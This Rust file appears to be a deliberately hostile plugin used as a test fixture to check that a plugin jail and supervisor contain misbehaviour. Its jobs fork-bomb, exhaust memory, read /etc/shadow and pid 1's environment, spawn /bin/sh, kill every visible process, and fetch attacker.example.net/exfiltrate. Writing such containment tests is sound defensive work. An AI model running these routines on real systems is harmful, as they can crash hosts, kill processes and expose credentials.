//! hostile: a plugin that misbehaves on purpose, one way per job, so the tests of the jail
//! and the supervisor can show each misbehaviour is contained. A test fixture: never
//! install it.
//!
//! Jobs (each reports what it managed in its summary, when it returns at all):
//!
//! | job | tries to |
//! |---|---|
//! | `fork-bomb` | start threads and processes until refused |
//! | `memory-hog` | allocate and touch memory without end |
//! | `busy-loop` | spin forever on a runtime thread, never yielding |
//! | `sleep-in-syscall` | block a runtime thread in a sleeping syscall forever |
//! | `stdout-flood` | write lines to stdout as fast as it can for 3 s |
//! | `garbage-frames` | write junk onto the host socket (fd 3) |
//! | `try-network` | open TCP and UDP connections (internet, loopback) |
//! | `read-host-files` | read `/etc/shadow`, `/root`, the host's files, pid 1's environment |
//! | `exec-shell` | run `/bin/sh` |
//! | `kill-all` | `kill(-1, SIGKILL)`: signal every process it can see |
//! | `crash` | abort |
//! | `egress-elsewhere` | fetch a URL outside its egress allowlist |
//! | `kv-over-quota` | store more than its kv quota |
//!
//! Config `mode = "crash-on-init"` aborts during init: a crash loop.
#![allow(unsafe_code)]

use faxbot_sdk::{Error, JobRun, Plugin};
use std::io::Write;
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::process::ExitCode;
use std::time::{Duration, Instant};

fn fork_bomb() -> String {
    let mut threads = 0u32;
    while threads < 10_000
        && std::thread::Builder::new()
            .spawn(|| std::thread::sleep(Duration::from_secs(3600)))
            .is_ok()
    {
        threads += 1;
    }
    let mut processes = 0u32;
    let me = std::env::current_exe().ok();
    while let Some(me) = &me {
        if processes >= 10_000 {
            break;
        }
        // The child finds no host socket and waits on stdin (never closed) instead of
        // exiting, so it keeps its pid.
        match std::process::Command::new(me)
            .arg("hold")
            .stdin(std::process::Stdio::piped())
            .spawn()
        {
            Ok(child) => {
                std::mem::forget(child);
                processes += 1;
            }
            Err(_) => break,
        }
    }
    format!("threads {threads} processes {processes}")
}

fn memory_hog() -> String {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        hoard.push(vec![0x5a; 8 << 20]);
        if hoard.len() > 1 << 20 {
            return format!("held {} MiB", hoard.len() * 8);
        }
    }
}

fn busy_loop() -> String {
    let begun = Instant::now();
    let mut spins = 0u64;
    // Never yields to the runtime: the task cannot be cancelled or timed out from inside.
    while begun.elapsed() < Duration::from_secs(3600) {
        spins = spins.wrapping_add(1);
        std::hint::black_box(spins);
    }
    format!("spun {spins}")
}

fn sleep_in_syscall() -> String {
    std::thread::sleep(Duration::from_secs(3600));
    "woke up".to_owned()
}

fn stdout_flood() -> String {
    std::thread::spawn(|| {
        let mut out = std::io::stdout().lock();
        let begun = Instant::now();
        let mut n = 0u64;
        while begun.elapsed() < Duration::from_secs(3) {
            if writeln!(out, "flood line {n} {}", "x".repeat(200)).is_err() {
                return;
            }
            n += 1;
        }
    });
    "flooding".to_owned()
}

fn garbage_frames() -> String {
    let junk = [
        9u8, 0, 0, 0, 0xde, 0xad, 0xbe, 0xef, 0xff, 0xfe, 0xfd, 0xfc, 0xfb,
    ];
    // SAFETY: write(2) on fd 3 with a pointer and length of a live local array.
    let written = unsafe { libc::write(3, junk.as_ptr().cast(), junk.len()) };
    format!("wrote {written} junk bytes")
}

fn try_network() -> String {
    let targets: [(&str, &str); 4] = [
        ("tcp", "1.1.1.1:443"),
        ("tcp", "127.0.0.1:22"),
        ("tcp", "[::1]:22"),
        ("udp", "8.8.8.8:53"),
    ];
    let mut outcomes = Vec::new();
    for (kind, target) in targets {
        let Ok(addr) = target.parse::<SocketAddr>() else {
            continue;
        };
        let outcome = match kind {
            "tcp" => TcpStream::connect_timeout(&addr, Duration::from_secs(1))
                .map(|_| "connected".to_owned())
                .unwrap_or_else(|e| format!("blocked ({})", e.kind())),
            _ => UdpSocket::bind("0.0.0.0:0")
                .and_then(|s| s.send_to(b"x", addr))
                .map(|_| "sent".to_owned())
                .unwrap_or_else(|e| format!("blocked ({})", e.kind())),
        };
        outcomes.push(format!("{kind} {target}: {outcome}"));
    }
    outcomes.join("; ")
}

fn read_host_files() -> String {
    let paths = [
        "/etc/shadow",
        "/etc/passwd",
        "/root",
        "/home",
        "/work",
        "/proc/1/environ",
        "/sys/fs/cgroup",
        "/var/run/docker.sock",
    ];
    let mut outcomes = Vec::new();
    for path in paths {
        let outcome = match std::fs::metadata(path) {
            Err(e) => format!("blocked ({})", e.kind()),
            Ok(meta) if meta.is_dir() => match std::fs::read_dir(path) {
                Ok(mut entries) => match entries.next() {
                    Some(_) => "read".to_owned(),
                    None => "empty".to_owned(),
                },
                Err(e) => format!("blocked ({})", e.kind()),
            },
            Ok(_) => match std::fs::read(path) {
                Ok(bytes) if bytes.is_empty() => "empty".to_owned(),
                Ok(_) => "read".to_owned(),
                Err(e) => format!("blocked ({})", e.kind()),
            },
        };
        outcomes.push(format!("{path}: {outcome}"));
    }
    outcomes.join("; ")
}

fn exec_shell() -> String {
    match std::process::Command::new("/bin/sh")
        .args(["-c", "echo escaped"])
        .output()
    {
        Ok(output) => format!("ran: {}", String::from_utf8_lossy(&output.stdout).trim()),
        Err(e) => format!("blocked ({})", e.kind()),
    }
}

fn kill_all() -> String {
    // SAFETY: kill(2) takes plain integers.
    let rc = unsafe { libc::kill(-1, libc::SIGKILL) };
    format!("kill(-1) returned {rc}")
}

/// One misbehaviour, run on a runtime thread; returns what it managed.
type Misbehaviour = fn() -> String;

fn hostile() -> Plugin {
    let mut plugin = Plugin::new("hostile", env!("CARGO_PKG_VERSION")).on_init(|ctx| async move {
        if ctx.config().str("mode") == Some("crash-on-init") {
            std::process::abort();
        }
        Ok(())
    });
    let blocking: [(&str, Misbehaviour); 11] = [
        ("fork-bomb", fork_bomb),
        ("memory-hog", memory_hog),
        ("busy-loop", busy_loop),
        ("sleep-in-syscall", sleep_in_syscall),
        ("stdout-flood", stdout_flood),
        ("garbage-frames", garbage_frames),
        ("try-network", try_network),
        ("read-host-files", read_host_files),
        ("exec-shell", exec_shell),
        ("kill-all", kill_all),
        ("crash", || std::process::abort()),
    ];
    for (name, misbehave) in blocking {
        // Run on the runtime's own thread, as careless plugin code would.
        plugin = plugin.job(
            name,
            move |_ctx, _run: JobRun| async move { Ok(misbehave()) },
        );
    }
    plugin
        .job("egress-elsewhere", |ctx, _run| async move {
            let outcome = ctx
                .http()
                .get("https://attacker.example.net/exfiltrate")
                .send()
                .await;
            Ok(match outcome {
                Ok(response) => format!("fetched {}", response.status),
                Err(e) => format!("refused: {e}"),
            })
        })
        .job("kv-over-quota", |ctx, _run| async move {
            let mut stored = 0usize;
            for i in 0..64 {
                match ctx.kv().put(&format!("blob-{i}"), vec![7u8; 1024]).await {
                    Ok(()) => stored += 1024,
                    Err(e) => return Ok(format!("stored {stored} bytes, then refused: {e}")),
                }
            }
            Err::<String, _>(Error::internal(format!("stored {stored} bytes unrefused")))
        })
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().collect();
    if args.get(1).map(String::as_str) == Some("hold") {
        // A fork-bomb child: hold a pid until the jail goes away.
        let mut sink = [0u8; 1];
        let _ = std::io::Read::read(&mut std::io::stdin(), &mut sink);
        return ExitCode::SUCCESS;
    }
    faxbot_sdk::run(hostile())
}
